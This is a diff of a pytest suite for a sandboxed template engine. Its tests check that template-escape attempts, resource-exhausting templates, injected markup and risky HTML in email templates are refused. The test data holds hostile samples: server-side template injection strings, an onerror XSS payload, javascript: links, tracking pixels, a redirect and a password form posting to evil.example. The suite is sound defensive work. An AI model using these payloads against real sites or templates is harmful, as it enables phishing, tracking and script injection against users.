@@ -49,7 +49,7 @@ ESCAPES = {
         "{% endfor %}{% endfor %}{% endfor %}"
     ),
     "a13 a loop that calls itself": "{% for a in lines recursive %}{{ loop(lines) }}{% endfor %}",
-    "a14 a macro": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
+    "a14 a macro that calls itself": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
     "a15 three thousand brackets": "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
     "a slice of a step": "{{ name[::2] }}",
     "a text joined": "{{ name ~ name }}",
@@ -70,6 +70,23 @@ ESCAPES = {
 
 @pytest.mark.parametrize("escape", ESCAPES)
 @pytest.mark.parametrize("markup", [False, True])
+@pytest.mark.attack(
+    "A01",
+    "A02",
+    "A03",
+    "A04",
+    "A05",
+    "A06",
+    "A07",
+    "A08",
+    "A09",
+    "A10",
+    "A11",
+    "A12",
+    "A13",
+    "A14",
+    "A15",
+)
 def test_an_escape_is_refused_with_file_and_line_before_anything_runs(
     escape: str, markup: bool
 ) -> None:
@@ -85,6 +102,13 @@ def test_an_escape_is_refused_with_file_and_line_before_anything_runs(
     assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000  # kilobytes
 
 
+def test_each_of_the_first_fifteen_attacks_has_its_escapes() -> None:
+    assert {each[:3].upper() for each in ESCAPES if each.startswith(("a0", "a1"))} == {
+        f"A{number:02d}" for number in range(1, 16)
+    }
+
+
+@pytest.mark.attack("A17")
 def test_a17_a_slot_that_does_not_exist_is_named_with_those_that_do() -> None:
     with pytest.raises(BadInput) as refused:
         compile_template("\n\n{{ nmae }}", name="en/notice.txt", slots=SLOTS)
@@ -94,16 +118,19 @@ def test_a17_a_slot_that_does_not_exist_is_named_with_those_that_do() -> None:
     )
 
 
+@pytest.mark.attack("A17")
 def test_a17_a_part_that_a_slot_has_not_is_named_with_its_line() -> None:
     template = compile_template("a\n{{ table.nothing }}", name="en/notice.txt", slots=SLOTS)
-    with pytest.raises(BadInput, match=r"en/notice\.txt, line 2: .*no attribute 'nothing'"):
-        render(template, {"table": {"a": "b"}}, name="en/notice.txt")
+    with pytest.raises(
+        BadInput, match=r"en/notice\.txt, line 2: .*no attribute 'nothing', in table\.nothing"
+    ):
+        render(template, {"table": {"a": "b"}})
 
 
 def test_a_template_that_cannot_be_read_is_named_with_its_line() -> None:
     for read in (
         lambda source: compile_template(source, name="n.txt", slots=SLOTS),
-        lambda source: slots_used(source, name="n.txt"),
+        lambda source: slots_used(source, name="n.txt", slots=SLOTS),
     ):
         with pytest.raises(BadInput, match=r"n\.txt, line 2: "):
             read("a\n{% for x in %}")
@@ -125,7 +152,7 @@ class Person:
 def test_only_plain_values_enter_a_template(value: Any) -> None:
     template = compile_template("{{ name }}", name="n.txt", slots=SLOTS)
     with pytest.raises(BadInput, match="expected text, whole numbers, lists and tables"):
-        render(template, {"name": value}, name="n.txt")
+        render(template, {"name": value})
 
 
 @pytest.mark.parametrize(
@@ -140,24 +167,73 @@ def test_only_plain_values_enter_a_template(value: Any) -> None:
 def test_nothing_of_python_is_printed_for_a_reader(source: str) -> None:
     template = compile_template(f"a\n{source}", name="n.txt", slots=SLOTS)
     with pytest.raises(BadInput, match=r"n\.txt, line 2: "):
-        render(template, {"table": {"a": "b"}, "name": "x", "lines": ["a"]}, name="n.txt")
+        render(template, {"table": {"a": "b"}, "name": "x", "lines": ["a"]})
 
 
 def test_a_part_of_a_table_goes_before_a_method_of_that_name() -> None:
     template = compile_template("{{ table.items }}", name="n.txt", slots=SLOTS)
-    assert render(template, {"table": {"items": "b"}}, name="n.txt") == "b"
+    assert render(template, {"table": {"items": "b"}}) == "b"
 
 
+@pytest.mark.attack("A16")
 def test_a16_code_in_a_value_is_text_in_every_pass() -> None:
     template = compile_template("{{ name }}", name="n.txt", slots=SLOTS)
-    once = render(template, {"name": "{{ 7*7 }}{% include 'x' %}"}, name="n.txt")
+    once = render(template, {"name": "{{ 7*7 }}{% include 'x' %}"})
     assert once == "{{ 7*7 }}{% include 'x' %}"
 
 
+@pytest.mark.attack("A18")
 def test_a18_markup_in_a_value_is_escaped_where_markup_is_written() -> None:
     template = compile_template('<p title="{{ name }}">', name="n", slots=SLOTS, markup=True)
-    said = render(template, {"name": '"><img src=x onerror=alert(1)>'}, name="n")
+    said = render(template, {"name": '"><img src=x onerror=alert(1)>'})
     assert said == '<p title="&#34;&gt;&lt;img src=x onerror=alert(1)&gt;">'
+
+
+MISPLACED = {
+    "an attribute without quotation marks": "<p title={{ name }}>",
+    "one with a space before it": "<p title = {{ name }}>",
+    "the name of an attribute": "<p {{ name }}>",
+    "the name of a tag": "<{{ name }}>x</p>",
+    "a tag that is never closed": "<p title='{{ name }}",
+    "two attributes, one bare": '<p title="{{ name }}" lang={{ name }}>',
+    "a style": '<p style="color: {{ name }}">',
+    "a style sheet": "<style>p { color: {{ name }} }</style>",
+    "a comment": "<!-- {{ name }} -->",
+}
+ACTING = {
+    "a link's address": '<a href="{{ name }}">x</a>',
+    "a script's address": '<a href="javascript:alert(1)">x</a>',
+    "a data address": "<a href='data:text/html,x'>x</a>",
+    "a picture that counts readers": '<img src="https://count.example/1.gif">',
+    "a script": "<script>alert('{{ name }}')</script>",
+    "a form": "<form action='https://evil.example'><input name=password></form>",
+    "what happens on a click": '<p onclick="x()">{{ name }}</p>',
+    "a page that goes elsewhere": '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    "a style that loads": '<p style="background:url(//count.example/1.gif)">x</p>',
+    "a style sheet that loads": "<style>@import '//count.example/x.css';</style>",
+}
+
+
+@pytest.mark.attack("A19")
+@pytest.mark.parametrize("where", MISPLACED)
+def test_a_slot_where_escaping_does_not_help_is_refused_with_its_line(where: str) -> None:
+    with pytest.raises(BadInput, match=r"email\.html, line 2: prints a slot"):
+        compile_template(f"<p>\n{MISPLACED[where]}", name="email.html", slots=SLOTS, markup=True)
+
+
+@pytest.mark.attack("A20")
+@pytest.mark.parametrize("what", ACTING)
+def test_a_mail_has_no_address_to_follow_and_nothing_that_acts(what: str) -> None:
+    with pytest.raises(BadInput, match=r"email\.html.*: has |: prints a slot, or loads"):
+        compile_template(f"{ACTING[what]}", name="email.html", slots=SLOTS, markup=True)
+
+
+def test_a_slot_in_text_and_in_a_quoted_inert_attribute_is_well_placed() -> None:
+    source = (
+        "<p lang=\"{{ name }}\" title='a {{ name }}'>{{ name }} &amp; <b>{{ name }}</b><br></p>"
+    )
+    template = compile_template(source, name="email.html", slots=SLOTS, markup=True)
+    assert render(template, {"name": "zh"}).startswith('<p lang="zh"')
 
 
 def test_what_a_template_may_do() -> None:
@@ -169,5 +245,5 @@ def test_what_a_template_may_do() -> None:
     )
     template = compile_template(source, name="n.txt", slots=SLOTS)
     values = {"name": "x", "lines": ["a", "", "b"], "table": {"a": "b"}}
-    assert render(template, values, name="n.txt") == "1 a, 2 ba++b 3"
-    assert slots_used(source, name="n.txt") == SLOTS
+    assert render(template, values) == "1 a, 2 ba++b 3"
+    assert slots_used(source, name="n.txt", slots=SLOTS) == SLOTS
